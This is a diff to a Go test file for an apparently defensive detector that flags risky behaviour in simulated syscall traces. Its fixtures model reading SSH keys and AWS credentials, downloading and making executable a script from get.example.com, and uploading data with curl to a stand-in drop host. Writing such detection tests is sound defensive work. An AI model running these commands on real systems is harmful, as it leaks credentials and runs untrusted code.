@@ -103,12 +103,19 @@ func TestRisks(t *testing.T) {
 		{"secret read and egress", func(b *baselinetest.Builder) {
 			b.Open(py, "/root/.ssh/id_rsa", baselinetest.ORdonly, baselinetest.EACCES)
 			b.DNS(py, "evil.example.net", 1)
+			b.Answer(py, "evil.example.net", "198.51.100.7")
 			b.Connect(py, "198.51.100.7", 443, baselinetest.ENETUNREACH)
 		}, []want{
 			{diff.Critical, "secret-read", "$HOME/.ssh/id_rsa"},
 			{diff.Critical, "egress", "evil.example.net:443"},
 			{diff.Critical, "dns", "evil.example.net"},
 		}, diff.Critical},
+		{"literal address after an approved lookup", func(b *baselinetest.Builder) {
+			// pypi.org is looked up in the benign run too; this address is
+			// not one of its answers, so it must not pass as pypi.org.
+			b.DNS(py, "pypi.org", 1)
+			b.Connect(py, "198.51.100.66", 443, baselinetest.ENETUNREACH)
+		}, []want{{diff.High, "egress", "198.51.100.66:443"}}, diff.High},
 		{"egress without secret", func(b *baselinetest.Builder) {
 			b.Connect(sh, "198.51.100.7", 8443, 0)
 		}, []want{{diff.High, "egress", "198.51.100.7:8443"}}, diff.High},
@@ -118,6 +125,7 @@ func TestRisks(t *testing.T) {
 		{"download and execute", func(b *baselinetest.Builder) {
 			c := b.Exec(py, "/usr/bin/curl", "curl", "-fsSLo", "/tmp/x.sh", "https://get.example.com/x.sh")
 			b.DNS(c, "get.example.com", 1)
+			b.Answer(c, "get.example.com", "203.0.113.9")
 			b.Connect(c, "203.0.113.9", 443, 0)
 			b.Open(c, "/tmp/x.sh", baselinetest.OWronly|baselinetest.OCreat|baselinetest.OTrunc, 3)
 			b.Chmod(sh, "/tmp/x.sh", 0o755)
@@ -224,6 +232,7 @@ func sampleReport(t *testing.T) diff.Report {
 	bad.Open(1, "/root/.aws/credentials", baselinetest.ORdonly, baselinetest.ENOENT)
 	c := bad.Exec(1, "/usr/bin/curl", "curl", "-T", "-", "https://drop.example.org/u")
 	bad.DNS(c, "drop.example.org", 1)
+	bad.Answer(c, "drop.example.org", "192.0.2.10")
 	bad.Connect(c, "192.0.2.10", 443, baselinetest.ENETUNREACH)
 	bad.Write(0, bad.T.Run.Workspace+"/out/extra.txt")
 	bad.T.Run.ID = 42
